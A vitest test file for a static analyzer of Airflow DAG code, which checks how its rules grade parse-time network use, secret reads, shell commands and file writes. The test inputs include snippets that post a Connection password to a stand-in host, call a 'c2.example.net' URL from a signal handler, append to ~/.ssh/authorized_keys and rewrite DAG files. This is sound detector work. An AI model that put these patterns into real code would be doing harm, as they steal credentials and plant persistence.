/**
 * Severities and wording that fixtures (which check lines only) cannot show: the noise classes of the false-positive
 * review on real repositories (docs/false-positive-review.md) must stay low, the real ones high.
 */
import { describe, expect, it } from 'vitest';
import { ALL_RULES } from '../../rules';
import { analyzeDataFile, analyzeSource, compileRules } from '../../src/engine/analyze';
import { DEFAULT_SETTINGS } from '../../src/engine/settings';

const only = (id: string) => compileRules(ALL_RULES.filter((r) => r.meta.id === id));
const compiled = only('DG501');
const check = (src: string, c = compiled) => analyzeSource('s.py', src, c, DEFAULT_SETTINGS).findings;

describe('DG501 socket', () => {
  it('is medium and says so when the module is used at parse time', () => {
    const [f] = check('import socket\nS = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n');
    expect(f.severity).toBe('medium');
    expect(f.message).toContain('used while the file is parsed');
    expect(check('import socket\nIP = socket.gethostbyname("db")\n')[0].severity).toBe('medium'); // a DNS lookup
  });

  it('is info when module-level code only asks the host its name (socket.gethostname() opens no socket)', () => {
    const [f] = check('import socket\nHOST = socket.gethostname()\n');
    expect(f.severity).toBe('info');
  });

  it('is info (below the default fail-on) and says "only inside functions" when no module-level code uses it', () => {
    const [f] = check('import socket as s\n\ndef ping():\n    return s.create_connection(("h", 1))\n# s.connect at module level only in a comment\nX = "s.socket()"\n');
    expect(f.severity).toBe('info');
    expect(f.message).toContain('used only inside functions');
  });

  it('is info when module-level code only catches its exceptions (`except socket.error:`), medium when the except body uses it', () => {
    const caught = 'import socket\nfrom airflow import DAG\ntry:\n    import requests\nexcept (socket.error, socket.timeout) as e:\n    requests = None\n';
    const [f] = check(caught);
    expect(f.severity).toBe('info');
    const used = 'import socket\ntry:\n    x = 1\nexcept socket.error:\n    socket.create_connection(("h", 1))\n';
    expect(check(used)[0].severity).toBe('medium');
  });

  it('is not reported when imported inside a function', () => {
    expect(check('def f():\n    import socket\n    return socket.gethostname()\n')).toEqual([]);
  });
});

describe('DG604 parse-time Variable/Connection reads', () => {
  const c = only('DG604');
  it('is info (shown, below the default fail-on) and says "reads an Airflow Variable" for configuration', () => {
    const f = check('from airflow.models import Variable\nCFG = Variable.get("tables", deserialize_json=True)\nB = Variable.get("bucket")\n', c);
    expect(f.map((x) => [x.line, x.severity])).toEqual([[2, 'info']]);
    expect(f[0].message).toContain('reads an Airflow Variable');
    expect(f[0].message).toContain('and 1 more');
  });
  it('is medium, at that lookup, when a key names a secret', () => {
    const f = check('from airflow.models import Variable\nA = Variable.get("bucket")\nP = Variable.get("db_password")\n', c);
    expect(f.map((x) => [x.line, x.severity])).toEqual([[3, 'medium']]);
  });
  it('is high at every lookup when the file also reaches the network at parse time', () => {
    const f = check('import requests\nfrom airflow.hooks.base import BaseHook\nc = BaseHook.get_connection("x")\nrequests.post("https://e.example", data=c.password)\n', c);
    expect(f.map((x) => [x.line, x.severity])).toEqual([[3, 'high']]);
    expect(f[0].message).toContain('Airflow Connection');
  });
});

describe('DG605/DG607 in stand-alone scripts', () => {
  const script = 'import subprocess\nout = subprocess.run(["git", "status"])\nopen("vars.json", "w").write("{}")\nif __name__ == "__main__":\n    print(out)\n';
  it('are low and conditional in a script with a __main__ block and no Airflow', () => {
    for (const id of ['DG605', 'DG607']) {
      const [f] = check(script, only(id));
      expect(f.severity, id).toBe('low');
      expect(f.message, id).toContain('if this file is in the DAG folder');
    }
  });
  it('are low in a script recognised by its #! line or its command-line arguments', () => {
    const body = 'import subprocess\nout = subprocess.run(["git", "status"])\n';
    for (const src of ['#!/usr/bin/env python3\n' + body, 'import sys\n' + body + 'print(sys.argv[1])\n', 'import argparse\n' + body]) {
      const [f] = check(src, only('DG607'));
      expect(f.severity, src).toBe('low');
      expect(f.message).toContain('command-line arguments');
    }
    // neither sign: a module that spawns a process when imported stays high
    expect(check(body, only('DG607'))[0].severity).toBe('high');
  });

  it('keep their severity in a DAG file', () => {
    const dag = 'from airflow import DAG\n' + script;
    expect(check(dag, only('DG607'))[0].severity).toBe('high');
    expect(check(dag, only('DG605'))[0].severity).toBe('medium');
  });
});

describe('DG102 says where the password sits', () => {
  it('a .netrc entry is called one (it was "a command line")', () => {
    const [f] = check('NETRC = """machine api.corp.example login svc password Xk9#mP2qLw7z\n"""\n', only('DG102'));
    expect(f.message).toContain('`.netrc` entry');
  });
});

describe('DG604 parse-time lookups: a smell (info) unless they weigh more', () => {
  const sev = (src: string) => check(`from airflow.models import Variable\nfrom airflow.hooks.base import BaseHook\n${src}`, only('DG604')).map((f) => f.severity);
  it('is info for a configuration Variable or a Connection whose password the file does not use', () => {
    expect(sev('CFG = Variable.get("etl_config", deserialize_json=True)\n')).toEqual(['info']);
    expect(sev('es = BaseHook.get_connection("es_prod")\nHOST = es.host\n')).toEqual(['info']);
  });
  it('is low when the Variable decides which DAGs the file builds, or the Connection\'s password is used', () => {
    expect(sev('for t in Variable.get("tenants", deserialize_json=True):\n    globals()[t] = make(t)\n')).toEqual(['low']);
    expect(sev('TENANTS = Variable.get("tenants", deserialize_json=True)\nfor t in TENANTS:\n    globals()[t] = make(t)\n')).toEqual(['low']);
    expect(sev('DAGS = [make(t) for t in Variable.get("tenants", deserialize_json=True)]\n')).toEqual(['low']);
    // a loop inside `with DAG(…):` generating the DAG's tasks from it (blind set 11)
    expect(sev('ACCOUNTS = Variable.get("gl_accounts", deserialize_json=True)\nwith DAG("gl") as dag:\n    for a in ACCOUNTS:\n        make(a)\n')).toEqual(['low']);
    expect(sev('def check(sql, conn=BaseHook.get_connection("wh")):\n    return connect(user=conn.login, password=conn.password)\n')).toEqual(['low']);
    expect(sev('PW = BaseHook.get_connection("wh").password\n')).toEqual(['low']);
  });
});

describe('DG605 judges the target by what its name is bound to', () => {
  it('is critical for a .py file of the DAG folder reached through a loop, or a self-running file through a name', () => {
    const loop = 'import glob\nfor p in glob.glob("/opt/airflow/dags/*.py"):\n    with open(p, "a") as fh:\n        fh.write("x")\n';
    expect(check(loop, only('DG605')).map((f) => f.severity)).toEqual(['critical']);
    const named = 'import os\nK = os.path.expanduser("~/.ssh/authorized_keys")\nopen(K, "a").write("k")\n';
    expect(check(named, only('DG605')).map((f) => f.severity)).toEqual(['critical']);
    // a keyword's name is no binding: `mode` is not followed
    expect(check('mode = "/opt/airflow/dags"\nopen("/tmp/out.txt", mode="w")\n', only('DG605')).map((f) => f.severity)).toEqual(['medium']);
  });
});

describe('DG204 severity by origin', () => {
  const c = only('DG204');
  const run = (value: string) =>
    check(`from airflow.models import Variable\nfrom airflow.operators.bash import BashOperator\n${value}\nBashOperator(task_id="t", bash_command=f"load {x}")\n`, c);
  it('is info for a value of unknown origin or a Variable (Airflow trusts whoever edits one), high for dag_run.conf', () => {
    expect(run('x = compute()').map((f) => f.severity)).toEqual(['info']);
    expect(run('x = Variable.get("table")').map((f) => f.severity)).toEqual(['info']);
    expect(run('x = context["params"]["table"]').map((f) => f.severity)).toEqual(['high']);
  });
});

describe('a value of unknown origin (what laundering past the depth bound yields: SECURITY.md)', () => {
  it('still fails the gate in a shell=True command or os.system (high), not in a formatted operator command (info)', () => {
    const src = 'import os, subprocess\nx = compute()\nsubprocess.run(f"load {x}", shell=True)\nos.system(f"load {x}")\n';
    expect(check(src, only('DG201')).map((f) => f.severity)).toEqual(['high']);
    expect(check(src, only('DG202')).map((f) => f.severity)).toEqual(['high']);
  });
});

describe('DG302/DG303 severity by origin', () => {
  const c = compileRules(ALL_RULES.filter((r) => r.meta.id === 'DG302' || r.meta.id === 'DG303'));
  const task = (body: string) =>
    ['import importlib', 'import json', 'from airflow.decorators import task', '', '@task', 'def load(name):', `    ${body}`, ''].join('\n');
  it('is medium for a task parameter that no call site shows, as in the shell-injection family', () => {
    const f = check(task('return importlib.import_module(name)'), c);
    expect(f.map((x) => [x.ruleId, x.severity])).toEqual([['DG302', 'medium']]);
    expect(f[0].message).toContain('function parameter');
    const g = check(task('return getattr(json, name)'), c);
    expect(g.map((x) => [x.ruleId, x.severity])).toEqual([['DG303', 'medium']]);
  });
  it('stays low for a Variable', () => {
    const src = 'import importlib\nfrom airflow.models import Variable\nm = importlib.import_module(Variable.get("mod"))\n';
    expect(check(src, c).map((x) => [x.ruleId, x.severity])).toEqual([['DG302', 'low']]);
  });
});

describe('DG102 local stack defaults in Python', () => {
  const dg102 = only('DG102');
  it('is info for a default password on the local machine or a compose service, high elsewhere', () => {
    expect(check('URI = "postgresql://airflow:airflow@localhost:5432/airflow"\n', dg102)[0].severity).toBe('info');
    expect(check('URI = "redis://:redis@redis:6379/0"\n', dg102)[0]?.severity ?? 'info').toBe('info');
    expect(check('URI = "postgresql://airflow:airflow@prod-db.corp.internal/airflow"\n', dg102)[0].severity).toBe('high');
    expect(check('URI = "postgresql://etl:Pr0dPw_2024@localhost/dw"\n', dg102)[0].severity).toBe('high');
  });
});

describe('DG613 started handlers', () => {
  const dg613 = only('DG613');
  it('is high when a lambda handler calls a local function that reaches the network, medium otherwise', () => {
    const src = 'import signal, urllib.request\n\ndef _helper():\n    urllib.request.urlopen("https://c2.example.net/")\n\ndef _quiet():\n    return 1\n\nsignal.signal(signal.SIGTERM, lambda *a: _helper())\nsignal.signal(signal.SIGINT, lambda *a: _quiet())\n';
    const f = check(src, dg613);
    // (and the outbound call itself, in `_helper`, named with what starts it)
    expect(f.map((x) => [x.line, x.severity])).toEqual([[4, 'high'], [9, 'high'], [10, 'medium']]);
    expect(f[0].message).toContain('which line 9 starts as a signal handler');
  });
});

describe('DG102 command lines read as commands, not as lines', () => {
  const dg102 = only('DG102');
  const lines = (script: string) =>
    check(`from airflow.operators.bash import BashOperator\nBashOperator(task_id="t", bash_command="""\n${script}\n""")\n`, dg102).map((f) => f.line);
  it('finds a client that starts the line right after another hinted line, and a password on a continuation line', () => {
    // line 3 is the first line of the script
    expect(lines('curl -sf https://h/health\ncurl -u admin:Adm1nPw99 https://x')).toEqual([4]);
    expect(lines('mysql -h db \\\n  -u root \\\n  -pS3cretPw77 -e "select 1"')).toEqual([5]);
  });
  it("judges a flag by its own command: docker's -u uid:gid after a curl, psql's -p port before a mysql", () => {
    expect(lines('curl -sf https://h/health && docker run -u 1000:1000 img:1 true')).toEqual([]);
    expect(lines('psql -p 5432 -h x; mysql -u root -e "select 1"')).toEqual([]);
    expect(lines('psql -p 5432 -h x; mysql -u root -pS3cretPw77 -e "select 1"')).toEqual([3]);
  });
});

describe('DG250 SQL built by code of another module', () => {
  const c = only('DG250');
  const head = 'from airflow.decorators import task\nfrom airflow.providers.postgres.hooks.postgres import PostgresHook\nfrom common.sql import build_delete, safe_table\n\n@task\ndef t(dag_run=None):\n    conf = dag_run.conf\n    hook = PostgresHook("dwh")\n';
  it('is medium, names the unseen code and the trigger input, when the whole statement comes from it', () => {
    const [f] = check(head + '    hook.run(build_delete(conf["table"]))\n', c);
    expect(f.severity).toBe('medium');
    expect(f.message).toContain('code this file does not show (`build_delete(conf["table"])`)');
    expect(f.message).toContain('whoever triggers the DAG');
  });
  it('stays info when such code only returns a value formatted into the statement (a validator: `safe_table(conf[…])`)', () => {
    const fs = check(head + '    hook.run(f"DELETE FROM {safe_table(conf[\'table\'])}")\n', c);
    expect(fs.map((f) => f.severity)).toEqual(['info']);
  });
});

describe('DG204 command built by code of another module', () => {
  it('is medium for trigger input handed to it, and names that code', () => {
    const [f] = check('from airflow.decorators import task\nfrom common.cmds import build_cmd\n\n@task.bash\ndef rerun(dag_run=None):\n    return build_cmd(dag_run.conf["path"])\n', only('DG204'));
    expect(f.severity).toBe('medium');
    expect(f.message).toContain('code this file does not show (`build_cmd(dag_run.conf["path"])`)');
  });
});

describe('DG401 checkpoints', () => {
  const c = only('DG401');
  const fn = (extra: string) =>
    `import os, pickle, tempfile\n\ndef f(hook):\n    with tempfile.TemporaryDirectory() as d:\n        p = os.path.join(d, "x.pkl")\n${extra}        with open(p, "wb") as fh:\n            pickle.dump([1], fh)\n        with open(p, "rb") as fh:\n            return pickle.load(fh)\n`;
  it('is info for data the function pickled itself in a temporary directory it created', () => {
    const [f] = check(fn(''), c);
    expect(f.severity).toBe('info');
    expect(f.message).toContain('pickled itself');
  });
  it('stays medium when the function also downloads into it, or reads trigger input', () => {
    expect(check(fn('        hook.download_file(key="m.pkl", local_path=p)\n'), c)[0].severity).toBe('medium');
    expect(check(fn('        name = context["dag_run"].conf["name"]\n'), c)[0].severity).toBe('medium');
  });
});

describe('DG504 in shell scripts shipped with the DAGs', () => {
  it('follows a pip command over `\\` continuation lines to the line that chooses the index', () => {
    const c = only('DG504');
    const text = '#!/bin/bash\npip install \\\n  --extra-index-url http://pkgs.acme.internal/simple \\\n  acme-utils==1.0\necho "--index-url http://not.a.pip.command"\n';
    const fs = analyzeDataFile('scripts/b.sh', text, 'shell', c, DEFAULT_SETTINGS).findings;
    expect(fs.map((f) => [f.line, f.severity])).toEqual([[3, 'high']]);
  });
});
